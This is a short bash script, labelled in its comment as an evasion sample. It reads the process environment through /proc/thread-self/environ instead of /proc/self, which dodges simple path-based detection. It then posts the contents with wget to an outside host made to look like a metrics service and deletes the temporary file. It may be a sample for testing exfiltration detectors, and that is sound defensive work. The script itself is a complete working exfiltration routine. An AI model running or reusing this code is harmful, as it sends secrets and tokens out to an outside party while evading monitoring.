#!/usr/bin/env bash
# Evasion: sends the process environment out by reading it through
# /proc/thread-self (not /proc/self) and posting it with wget --post-file.
set -eu
out=$(mktemp)
tr '\0' '\n' < /proc/thread-self/environ > "$out"
wget -q -O /dev/null --post-file="$out" https://metrics.example-apm.io/env
rm -f "$out"
